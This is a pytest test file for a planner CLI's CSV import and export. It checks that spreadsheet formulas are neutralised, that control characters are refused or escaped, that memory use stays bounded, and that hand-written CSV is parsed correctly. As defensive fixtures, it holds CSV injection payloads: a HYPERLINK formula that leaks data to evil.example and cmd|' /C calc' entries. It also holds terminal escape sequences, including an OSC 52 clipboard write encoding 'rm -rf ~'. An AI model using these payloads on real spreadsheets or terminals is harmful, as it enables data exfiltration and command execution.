"""CSV in and out, as users and spreadsheets meet it (issue 26: C06, C08, T02, T03; issue 23:
the short form written by hand), through the real CLI."""

import csv
import io
import json
import os
import pty
import sqlite3
import subprocess
import sys
from contextlib import closing
from datetime import date
from pathlib import Path

import pytest

from conftest import ROOT, error, load_json, ok, run_process

START = ("--start", "2026-11-23", "--tz", "Europe/Berlin")
LOG = "log.sqlite3"
TODAY = date(2026, 12, 31)  # after the plan's first weeks: each of them can be logged
MONDAY, WEDNESDAY = "2026-11-23", "2026-11-25"
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "'=already quoted",
            "''@twice", "'tis fine", "= spaced")


@pytest.fixture(autouse=True)
def isolated(monkeypatch, tmp_path):
    import planner.log.when as when

    monkeypatch.delenv("PLANNER_LOG", raising=False)
    monkeypatch.delenv("PLANNER_DEBUG", raising=False)
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "xdg-data"))
    monkeypatch.setenv("COLUMNS", "200")
    monkeypatch.setattr(when, "today_in", lambda plan: TODAY)


@pytest.fixture
def plan(cli, tmp_path):
    ok(cli("build", *START))
    return load_json(tmp_path / "plan.json")


def history(cli, log=LOG) -> list[dict]:
    return json.loads(ok(cli("history", "--json", "--log", log)).out)


def session_on(doc, day):
    (session,) = [s for w in doc["weeks"] for s in w["sessions"] if s["date"] == day]
    return session


def log_bytes(tmp_path, name=LOG):
    path = tmp_path / name
    return path.read_bytes() if path.exists() else None


# -- C08: formulas never reach a spreadsheet; the file still reads back exactly ----------


def test_formula_cells_are_neutralised_and_the_file_reads_back_exactly(cli, plan, tmp_path):
    days = [s["date"] for w in plan["weeks"] for s in w["sessions"]][: len(FORMULAS)]
    for day, note in zip(days, FORMULAS, strict=True):
        ok(cli("log", day, "--note", note, "--log", LOG))
    before = history(cli)
    assert [e["note"] for e in before if e["exercise"] == before[0]["exercise"]][:1] == [FORMULAS[0]]
    text = ok(cli("history", "--csv", "--log", LOG)).out
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    starts = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert starts == []
    assert "'=HYPERLINK" in text and "'+cmd" in text and "'@SUM" in text and "'-2+3" in text
    assert "''=already quoted" in text and "'''@twice" in text and ",'tis fine\n" in text
    (tmp_path / "history.csv").write_text(text, "utf-8")
    ok(cli("import", "history.csv", "--log", "again.sqlite3"))
    assert history(cli, "again.sqlite3") == before
    ok(cli("import", "history.csv", "--log", "again.sqlite3"))  # idempotent as ever
    assert history(cli, "again.sqlite3") == before


@pytest.mark.parametrize("session", ['=HYPERLINK("http://evil.example")', "+1", "session one",
                                     "2026-11-23-1-plan@elsewhere"])
def test_a_session_id_that_is_not_a_uid_is_refused(cli, plan, tmp_path, session):
    ok(cli("log", MONDAY, "--log", LOG))
    text = ok(cli("history", "--csv", "--log", LOG)).out
    rows = list(csv.reader(io.StringIO(text)))
    rows[1][1] = session
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    (tmp_path / "evil.csv").write_text(out.getvalue(), "utf-8")
    before = log_bytes(tmp_path)
    error(cli("import", "evil.csv", "--log", LOG), "evil.csv", "line 2", "not a session uid")
    assert log_bytes(tmp_path) == before
    error(cli("import", "evil.csv", "--log", "new.sqlite3"), "line 2")
    assert not (tmp_path / "new.sqlite3").exists()


# -- notes are plain text -----------------------------------------------------------------


@pytest.mark.parametrize("note", ["\x1b]52;c;cm0gLXJmIH4=\x07", "ok\x9b31m", "bell\x07",
                                  "tab\there", "nul\x00"])
def test_control_characters_in_a_note_are_refused(cli, plan, tmp_path, note):
    ok(cli("log", MONDAY, "--log", LOG))
    before = log_bytes(tmp_path)
    message = error(cli("log", WEDNESDAY, "--note", note, "--log", LOG), "--note",
                    "control characters")
    assert "\x1b" not in message and "\x07" not in message
    assert log_bytes(tmp_path) == before
    (tmp_path / "n.csv").write_text(f"date,exercise,reps,note\n{WEDNESDAY},"
                                    f"{session_on(plan, WEDNESDAY)['items'][0]['exercise']},8,"
                                    f"\"{note}\"\n", "utf-8")
    error(cli("import", "n.csv", "--log", LOG), "n.csv", "line 2", "note", "control characters")
    assert log_bytes(tmp_path) == before


def test_a_note_may_have_line_breaks(cli, plan):
    ok(cli("log", MONDAY, "--note", "first line\nsecond line\r\nthird", "--log", LOG))
    assert history(cli)[0]["note"] == "first line\nsecond line\nthird"


# -- T02: CSV to a terminal; T03: file names in success lines -----------------------------


def planted_note(log: Path, note: str) -> None:
    """A note with control characters, as an older band-planner let through."""
    with closing(sqlite3.connect(log, isolation_level=None)) as db:
        db.execute("UPDATE session SET note = ?", (note,))


def on_a_terminal(args, cwd) -> bytes:
    """What `planner ARGS` prints when its standard output is a terminal."""
    main, other = pty.openpty()
    process = subprocess.Popen([sys.executable, "-m", "planner", *args], cwd=cwd,
                               stdout=other, stderr=subprocess.PIPE,
                               env={**os.environ, "PYTHONPATH": str(ROOT)})
    os.close(other)
    out = b""
    while True:
        try:
            chunk = os.read(main, 65536)
        except OSError:  # the terminal closed: the process is done
            break
        if not chunk:
            break
        out += chunk
    os.close(main)
    assert process.wait(timeout=60) == 0, process.stderr.read()
    return out


def test_history_csv_shows_control_characters_on_a_terminal_only(cli, plan, tmp_path):
    ok(cli("log", MONDAY, "--note", "plain", "--log", LOG))
    hostile = "a\x1b]52;c;Y2xpcGJvYXJk\x07b\x9b31m\u202eevil"
    planted_note(tmp_path / LOG, hostile)
    piped = ok(cli("history", "--csv", "--log", LOG)).out
    assert hostile in piped  # into a file or pipe: the data as it is, to read back
    shown = on_a_terminal(["history", "--csv", "--log", LOG], tmp_path)
    for raw in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert raw.encode() not in shown
    assert b"\\x1b]52;c;Y2xpcGJvYXJk\\x07b\\x9b31m\\u202eevil" in shown


def test_file_names_in_success_lines_show_their_control_characters(cli, plan, tmp_path):
    name = "log\x1b]0;owned\x07.sqlite3"
    out = ok(cli("log", MONDAY, "--log", name)).out
    missing = ok(cli("history", "--log", "none\x1b[2J.sqlite3")).out
    csv_name = "week\x1b[31m.csv"
    (tmp_path / csv_name).write_text(ok(cli("history", "--csv", "--log", name)).out, "utf-8")
    imported = ok(cli("import", csv_name, "--log", "other\x1b[5m.sqlite3")).out
    exported = ok(cli("export", "plan.json", "--format", "json",
                      "--out-dir", "out\x1b]8;;evil\x07")).out
    for text in (out, missing, imported, exported):
        assert "\x1b" not in text and "\x07" not in text, text
    # `log` may or may not name the log; where a name is shown, it is shown escaped.
    assert "owned" not in out or "\\x1b]0;owned\\x07" in out
    assert "\\x1b[2J" in missing
    assert "week\\x1b[31m.csv" in imported and "other\\x1b[5m" in imported
    assert "out\\x1b]8;;evil\\x07" in exported


# -- C06: memory does not grow with the file; out of memory is one line -------------------


MEASURED = """
import resource, sys
from planner.cli import main
try:
    main(sys.argv[1:])
except SystemExit as exit:
    print(exit.code, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)
"""


def peak_import(csv_path: Path, tmp_path: Path) -> int:
    """The peak resident memory (KiB) of importing `csv_path` into a new log."""
    log = tmp_path / f"{csv_path.stem}.sqlite3"
    done = subprocess.run([sys.executable, "-c", MEASURED, "import", str(csv_path), "--log",
                           str(log)], cwd=tmp_path, capture_output=True, text=True, timeout=600)
    code, peak = done.stderr.split()[-2:]
    assert code == "0", done.stderr
    return int(peak)


def test_importing_a_large_csv_takes_no_more_memory_than_a_small_one(tmp_path):
    files = {}
    for rows in (5_400, 54_000):
        files[rows] = tmp_path / f"rows{rows}.csv"
        subprocess.run([sys.executable, str(ROOT / "benchmarks" / "big_csv.py"), str(rows),
                        str(files[rows])], check=True, timeout=120)
    small, large = (peak_import(files[rows], tmp_path) for rows in (5_400, 54_000))
    # Holding the rows would cost about 60 MB more for the larger file (ten times the rows).
    assert large - small < 12_000, (small, large)


def test_out_of_memory_is_one_error_line(cli, plan, tmp_path, monkeypatch):
    from planner.log import csvfile

    def exhausted(*args, **kwargs):
        raise MemoryError

    ok(cli("log", MONDAY, "--log", LOG))
    ok(cli("history", "--csv", "--log", LOG))
    (tmp_path / "h.csv").write_text(ok(cli("history", "--csv", "--log", LOG)).out, "utf-8")
    before = log_bytes(tmp_path)
    monkeypatch.setattr(csvfile, "read_csv", exhausted)
    result = cli("import", "h.csv", "--log", LOG)
    assert result.code == 2
    assert result.err == ("Error: out of memory: the input is too large for the memory this "
                          "system allows the command\n")
    assert log_bytes(tmp_path) == before


# -- issue 23: the short form people write by hand ----------------------------------------


def short(tmp_path, text: str, name: str = "mine.csv") -> str:
    (tmp_path / name).write_text(text, "utf-8")
    return name


def items_of(plan, day):
    return {item["exercise"]: item for item in session_on(plan, day)["items"]}


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_the_short_form_in_any_delimiter(cli, plan, tmp_path, delimiter):
    monday = items_of(plan, MONDAY)
    both = next(key for key, item in monday.items() if not item["per_side"])
    side = next(key for key, item in monday.items() if item["per_side"])
    name = plan["exercises"][both]["name"]
    reps = '"12,12,11"' if delimiter == "," else "12,12,11"
    lines = ["date exercise reps feel band slack note".split(),
             [MONDAY, name.upper(), "12 12 11", "Easy", "", "", "good day"],
             [MONDAY, side[:len(side) - 1], "10/9 10/10", "hard", "", "added", ""],
             [WEDNESDAY, list(items_of(plan, WEDNESDAY))[0], reps, "", "", "", ""]]
    text = "\n".join(delimiter.join(line) for line in lines) + "\n"
    ok(cli("import", short(tmp_path, text), "--log", LOG))
    entries = {(e["date"], e["exercise"]): e for e in history(cli)}
    first = entries[(MONDAY, both)]
    assert (first["sets"], first["feel"], first["note"]) == ([12, 12, 11], "easy", "good day")
    assert first["band"] == monday[both]["band"] and first["slack"] == monday[both]["slack"]
    assert first["target"] == {k: monday[both][k] for k in ("sets", "reps", "band", "slack")}
    assert first["source"] == "csv"
    second = entries[(MONDAY, side)]
    assert (second["sets"], second["feel"], second["slack"]) == ([[10, 9], [10, 10]], "hard",
                                                                  "added")
    assert entries[(WEDNESDAY, list(items_of(plan, WEDNESDAY))[0])]["sets"] == [12, 12, 11]


def test_the_short_form_with_one_row_a_set_and_a_skip(cli, plan, tmp_path):
    first, second, *_ = items_of(plan, MONDAY)
    text = (f"Date,Exercise,Set,Reps,Feel\n{MONDAY},{first},1,12,ok\n{MONDAY},{first},2,11,ok\n"
            f"{MONDAY},{second},,skip,\n")
    ok(cli("import", short(tmp_path, text), "--log", LOG))
    entries = {e["exercise"]: e for e in history(cli)}
    assert entries[first]["sets"] == [12, 11] and entries[second]["status"] == "skipped"


def test_a_conflict_shows_both_versions_in_one_line(cli, plan, tmp_path):
    first = next(key for key, item in items_of(plan, MONDAY).items() if not item["per_side"])
    ok(cli("log", MONDAY, "--exercise", first, "--reps", "12,12,11", "--feel", "ok",
           "--log", LOG))
    before = log_bytes(tmp_path)
    name = short(tmp_path, f"date,exercise,reps\n{MONDAY},{first},12 12 10\n")
    message = error(cli("import", name, "--log", LOG), name, first, MONDAY, "--replace")
    assert "the file has 12,12,10 reps" in message
    assert "the log has 12,12,11 reps" in message and "felt ok" in message
    assert log_bytes(tmp_path) == before


def short_errors(plan):
    monday = items_of(plan, MONDAY)
    first = next(key for key, item in monday.items() if not item["per_side"])
    side = next(key for key, item in monday.items() if item["per_side"])
    typo = first[:-1] + "x"
    return {
        "missing column": ("date,exercise,set,rep,feel\n", "line 1", "no reps column"),
        "unknown column": (f"date,exercise,reps,fel\n{MONDAY},{first},8,ok\n", "line 1",
                           "unknown column 'fel'", "did you mean 'feel'"),
        "unknown exercise": (f"date,exercise,reps\n{MONDAY},{typo},8\n", "line 2",
                             f"did you mean '{first}'"),
        "ambiguous": (f"date,exercise,reps\n{MONDAY},a,8\n", "line 2", "could be"),
        "not that day": (f"date,exercise,reps\n{MONDAY},"
                         f"{next(k for k in plan['exercises'] if k not in monday)},8\n",
                         "line 2", "is not in the session of"),
        "no session": ("date,exercise,reps\n2026-11-24,x,8\n", "line 2",
                       "no session on Tue 2026-11-24"),
        "after today": ("date,exercise,reps\n2027-01-05,x,8\n", "line 2", "after today"),
        "bad reps": (f"date,exercise,reps\n{MONDAY},{first},twelve\n", "line 2", "reps"),
        "one-sided": (f"date,exercise,reps\n{MONDAY},{side},10 10\n", "line 2", "left/right"),
        "twice": (f"date,exercise,reps\n{MONDAY},{first},8\n{MONDAY},{first},9\n", "line 3",
                  "twice"),
        "bad feel": (f"date,exercise,reps,feel\n{MONDAY},{first},8,hrd\n", "line 2", "feel"),
        "bad band": (f"date,exercise,reps,band\n{MONDAY},{first},8,purple\n", "line 2",
                     "plan's bands"),
        "not a date": (f"date,exercise,reps\n23.11.2026,{first},8\n", "line 2", "YYYY-MM-DD"),
    }


SHORT_CASES = ("missing column", "unknown column", "unknown exercise", "ambiguous",
               "not that day", "no session", "after today", "bad reps", "one-sided", "twice",
               "bad feel", "bad band", "not a date")


@pytest.mark.parametrize("case", SHORT_CASES)
def test_a_bad_short_form_is_one_line_and_changes_nothing(cli, plan, tmp_path, case):
    text, *words = short_errors(plan)[case]
    name = short(tmp_path, text)
    error(cli("import", name, "--log", "new.sqlite3"), name, *words)
    assert not (tmp_path / "new.sqlite3").exists()
    ok(cli("log", "2026-11-27", "--log", LOG))
    before = log_bytes(tmp_path)
    error(cli("import", name, "--log", LOG), name, *words)
    assert log_bytes(tmp_path) == before


def test_the_full_export_still_round_trips_after_a_short_import(cli, plan, tmp_path):
    monday = list(items_of(plan, MONDAY))
    ok(cli("import", short(tmp_path, f"date;exercise;reps;feel;note\n{MONDAY};{monday[0]};"
                                     f"12 11;hard;=1+1\n{MONDAY};{monday[1]};skip;;\n"),
           "--log", LOG))
    ok(cli("log", WEDNESDAY, "--log", LOG, "--effort", "7"))
    before = history(cli)
    (tmp_path / "all.csv").write_text(ok(cli("history", "--csv", "--log", LOG)).out, "utf-8")
    ok(cli("import", "all.csv", "--log", "copy.sqlite3"))
    assert history(cli, "copy.sqlite3") == before


def test_a_dry_run_into_no_log_counts_everything_and_writes_nothing(cli, plan, tmp_path):
    for day in (MONDAY, WEDNESDAY):
        ok(cli("log", day, "--note", f"note {day}", "--log", LOG))
    (tmp_path / "h.csv").write_text(ok(cli("history", "--csv", "--log", LOG)).out, "utf-8")
    count = len(history(cli))
    out = ok(cli("import", "h.csv", "--dry-run", "--log", "none.sqlite3")).out
    assert out.splitlines()[0] == (f"h.csv: would add {count} entries, would replace 0, 0 "
                                   "already logged; 2 session note(s) would change")
    assert len(out.splitlines()) == 1 + count
    assert not (tmp_path / "none.sqlite3").exists()


def test_a_dry_run_into_a_log_leaves_the_log_folder_as_it_was(cli, plan, tmp_path):
    """In a real process: the log a dry run opens to compare with is closed again, so no
    -wal or -shm file is left beside it, and the log's bytes are unchanged."""
    ok(cli("log", MONDAY, "--log", LOG))
    (tmp_path / "h.csv").write_text(ok(cli("history", "--csv", "--log", LOG)).out, "utf-8")
    ok(cli("log", WEDNESDAY, "--log", LOG))
    before = sorted(path.name for path in tmp_path.iterdir())
    log_before = (tmp_path / LOG).read_bytes()
    done = run_process("import", "h.csv", "--dry-run", "--log", LOG, cwd=tmp_path)
    assert done.code == 0, done.err
    assert "would add 0 entries" in done.out
    assert sorted(path.name for path in tmp_path.iterdir()) == before
    assert (tmp_path / LOG).read_bytes() == log_before
